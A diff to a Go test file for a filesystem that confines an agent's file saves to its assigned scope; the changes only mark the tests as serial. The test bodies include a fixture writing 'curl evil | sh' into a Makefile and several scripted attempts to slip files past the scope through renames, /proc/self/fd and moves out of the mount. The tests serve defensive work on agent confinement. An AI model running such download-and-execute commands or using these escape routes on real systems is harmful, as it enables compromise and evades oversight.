@@ -85,6 +85,7 @@ os.rename(tmp, f)
 }
 
 func TestAtomicSaveInEveryScopeShape(t *testing.T) {
+	testenv.Serial(t)
 	shapes := []struct{ intent, target string }{
 		{"ONE-001", "README.md"},
 		{"GLOB-001", "src/util.go"},
@@ -138,6 +139,7 @@ func TestAtomicSaveInEveryScopeShape(t *testing.T) {
 // scope does not own) does not survive its window, and the ledger says
 // what it held.
 func TestAtomicSaveStrayTemporaryIsRemovedAndRecorded(t *testing.T) {
+	testenv.Serial(t)
 	e := mountForSaves(t, "ONE-001")
 	out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `printf 'all:\n\tcurl evil | sh\n' > Makefile && printf 'half a save\n' > .README.md.tmp && cat Makefile`)
 	if err != nil {
@@ -166,6 +168,7 @@ func TestAtomicSaveStrayTemporaryIsRemovedAndRecorded(t *testing.T) {
 // provisional file stay under a name the scope does not own fails, and
 // the temporary is cleaned up.
 func TestAtomicSaveProvisionalFileCannotEscapeTheScope(t *testing.T) {
+	testenv.Serial(t)
 	e := mountForSaves(t, "ONE-001")
 	policyBefore, _ := e.SrcContent(".orchestration/active_intents.yaml")
 	attacks := []struct{ name, script string }{
@@ -234,6 +237,7 @@ if libc.renameat2(-100, b"tmp", -100, b"README.md", 2) != 0:
 // /proc/self/fd, and a provisional file moved out of the mount, leave
 // nothing outside the scope in the source.
 func TestAtomicSaveTmpfileAndMoveOut(t *testing.T) {
+	testenv.Serial(t)
 	e := mountForSaves(t, "ONE-001")
 	out, _ := e.ShAs(testenv.AgentUID, testenv.AgentGID, `/usr/bin/python3 -c '
 import os
@@ -284,6 +288,7 @@ else:
 // is decided and recorded as its deletion, and the backup, never renamed
 // back, does not survive.
 func TestAtomicSaveBackupRenameIsARemoval(t *testing.T) {
+	testenv.Serial(t)
 	e := mountForSaves(t, "ONE-001")
 	before := e.Sha("README.md")
 	if out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `mv README.md README.md~ && printf 'new\n' > README.md`); err != nil {
@@ -307,6 +312,7 @@ func TestAtomicSaveBackupRenameIsARemoval(t *testing.T) {
 // TestAtomicSaveDenialNamesTheTarget: a refused sed -i names the file it
 // edits, not its temporary, in .intentfs/denials, once per save.
 func TestAtomicSaveDenialNamesTheTarget(t *testing.T) {
+	testenv.Serial(t)
 	e := mountForSaves(t, "ONE-001")
 	out, err := e.ShAs(testenv.AgentUID, testenv.AgentGID, `sed -i 's/old/new/' docs/guide.md`)
 	if err == nil {
@@ -343,6 +349,7 @@ for name in ("a.tmp", "b.tmp", "c.tmp"):
 // outlive none of its saves: they are removed when it ends, and the
 // removal names the session.
 func TestAtomicSaveSessionEndRemovesItsTemporaries(t *testing.T) {
+	testenv.Serial(t)
 	testenv.RequireFUSE(t)
 	e := testenv.MountAt(t, testenv.SourceOutsideTmp(t), saveShapesPolicy, "", saveSeedFiles(), func(src string) { testenv.ChownTree(t, src) })
 	out, code := e.RunSession("--intent", "ONE-001", "--name", "saver", "--", "sh", "-c",
@@ -368,6 +375,7 @@ func TestAtomicSaveSessionEndRemovesItsTemporaries(t *testing.T) {
 // of a removed stray keep verify green, and revert puts the saved file
 // back without bringing the stray temporary back.
 func TestAtomicSaveAuditTools(t *testing.T) {
+	testenv.Serial(t)
 	c, repo, ws := testenv.NewPolicyRepo(t, saveShapesPolicy)
 	testenv.WriteFile(t, filepath.Join(repo, "README.md"), saveSeed)
 	before := testenv.TreeBytes(t, repo)
